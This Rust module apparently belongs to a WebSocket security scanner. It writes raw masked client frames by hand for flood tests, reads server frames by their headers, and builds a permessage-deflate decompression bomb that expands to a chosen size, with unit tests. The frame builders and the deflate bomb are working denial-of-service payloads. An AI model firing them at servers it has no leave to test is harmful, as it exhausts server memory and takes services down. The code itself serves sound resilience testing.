//! Raw frames for the transport floods: client frames written by hand (a
//! fragment that never ends, a burst of pings, a compressed message no
//! library would send), the server's frames read back by their headers
//! only, and a deflate stream that inflates far beyond its size.

use tokio::io::AsyncReadExt as _;
use tokio::time::{Instant, timeout_at};

use crate::net::Io;

/// Opcodes (RFC 6455 §5.2).
pub(crate) const CONTINUATION: u8 = 0x0;
pub(crate) const TEXT: u8 = 0x1;
pub(crate) const CLOSE: u8 = 0x8;
pub(crate) const PING: u8 = 0x9;
pub(crate) const PONG: u8 = 0xA;

/// The mask key of every frame the scanner writes by hand (any will do).
const MASK: [u8; 4] = [0x5a, 0x3c, 0x96, 0x0f];
/// Largest server frame whose payload is read (and dropped); a larger one
/// ends the reading.
const MAX_SKIP: u64 = 1024 * 1024;

/// A masked client frame: `fin`, `rsv1` (compressed), `opcode`, `payload`.
pub(crate) fn client_frame(fin: bool, rsv1: bool, opcode: u8, payload: &[u8]) -> Vec<u8> {
    let mut frame = vec![(u8::from(fin) << 7) | (u8::from(rsv1) << 6) | opcode];
    let len = payload.len();
    match (u8::try_from(len), u16::try_from(len)) {
        (Ok(short), _) if short < 126 => frame.push(0x80 | short),
        (_, Ok(medium)) => {
            frame.push(0x80 | 126);
            frame.extend_from_slice(&medium.to_be_bytes());
        }
        _ => {
            frame.push(0x80 | 127);
            frame.extend_from_slice(&(len as u64).to_be_bytes());
        }
    }
    frame.extend_from_slice(&MASK);
    frame.extend(payload.iter().zip(MASK.iter().cycle()).map(|(b, m)| b ^ m));
    frame
}

/// One frame from the server, by its header: the opcode, or `None` when
/// the connection ended or `deadline` passed first (`Err(())`).
pub(crate) async fn next_opcode(io: &mut Box<dyn Io>, deadline: Instant) -> Result<Option<u8>, ()> {
    let mut head = [0u8; 2];
    match timeout_at(deadline, io.read_exact(&mut head)).await {
        Err(_) => return Err(()),
        Ok(Err(_)) => return Ok(None),
        Ok(Ok(_)) => {}
    }
    let opcode = head[0] & 0x0f;
    let len = match head[1] & 0x7f {
        126 => {
            let mut b = [0u8; 2];
            if !matches!(timeout_at(deadline, io.read_exact(&mut b)).await, Ok(Ok(_))) {
                return Ok(Some(opcode));
            }
            u64::from(u16::from_be_bytes(b))
        }
        127 => {
            let mut b = [0u8; 8];
            if !matches!(timeout_at(deadline, io.read_exact(&mut b)).await, Ok(Ok(_))) {
                return Ok(Some(opcode));
            }
            u64::from_be_bytes(b)
        }
        n => u64::from(n),
    };
    if len <= MAX_SKIP {
        let mut sink = tokio::io::sink();
        let mut payload = (&mut *io).take(len);
        let _ = timeout_at(deadline, tokio::io::copy(&mut payload, &mut sink)).await;
    }
    Ok(Some(opcode))
}

/// A raw deflate stream (RFC 1951, as permessage-deflate carries it: the
/// trailing `00 00 ff ff` left out) that inflates to `size` zero bytes:
/// one literal, then matches of 258 bytes at distance 1, 13 bits each in
/// the fixed Huffman code, so about 1/160 of `size`.
pub(crate) fn deflate_bomb(size: usize) -> Vec<u8> {
    let mut bits = Bits::default();
    bits.push(0, 1); // BFINAL = 0: a sync flush follows
    bits.push(1, 2); // BTYPE = 01, fixed Huffman
    bits.code(0x30, 8); // literal 0 (codes 0-143: 0x30 + value, 8 bits)
    let mut left = size.saturating_sub(1);
    while left >= 258 {
        bits.code(0xC5, 8); // length 258: code 285, no extra bits
        bits.code(0, 5); // distance 1: code 0, no extra bits
        left -= 258;
    }
    for _ in 0..left {
        bits.code(0x30, 8);
    }
    bits.code(0, 7); // end of block: code 256
    // The sync flush's empty stored block: BFINAL 0, BTYPE 00, then the
    // byte boundary; its `00 00 ff ff` is what permessage-deflate drops.
    bits.push(0, 3);
    bits.finish()
}

/// A little-endian bit writer (RFC 1951 §3.1.1).
#[derive(Default)]
struct Bits {
    out: Vec<u8>,
    current: u8,
    used: u8,
}

impl Bits {
    /// `n` bits of `value`, least significant first (header fields).
    fn push(&mut self, value: u32, n: u8) {
        for i in 0..n {
            self.bit((value >> i) & 1 == 1);
        }
    }

    /// A Huffman code of `n` bits, most significant first.
    fn code(&mut self, value: u32, n: u8) {
        for i in (0..n).rev() {
            self.bit((value >> i) & 1 == 1);
        }
    }

    fn bit(&mut self, set: bool) {
        self.current |= u8::from(set) << self.used;
        self.used += 1;
        if self.used == 8 {
            self.out.push(self.current);
            self.current = 0;
            self.used = 0;
        }
    }

    fn finish(mut self) -> Vec<u8> {
        if self.used > 0 {
            self.out.push(self.current);
        }
        self.out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn client_frames_are_masked_with_the_right_length_form() {
        let f = client_frame(true, false, TEXT, b"hi");
        assert_eq!(&f[..2], &[0x81, 0x82]);
        assert_eq!(f.len(), 2 + 4 + 2);
        assert_eq!(f[6] ^ MASK[0], b'h');
        let f = client_frame(false, true, CONTINUATION, &[0; 300]);
        assert_eq!(&f[..4], &[0x40, 0x80 | 126, 1, 44]);
        let f = client_frame(true, false, TEXT, &[0; 70_000]);
        assert_eq!(f[1], 0x80 | 127);
    }

    #[test]
    fn the_bomb_is_small() {
        let bomb = deflate_bomb(16 * 1024 * 1024);
        assert!(bomb.len() < 120 * 1024, "{}", bomb.len());
        // Header bits: BFINAL 0, BTYPE 01 → 0b010 in the low bits.
        assert_eq!(bomb[0] & 0b111, 0b010);
    }
}
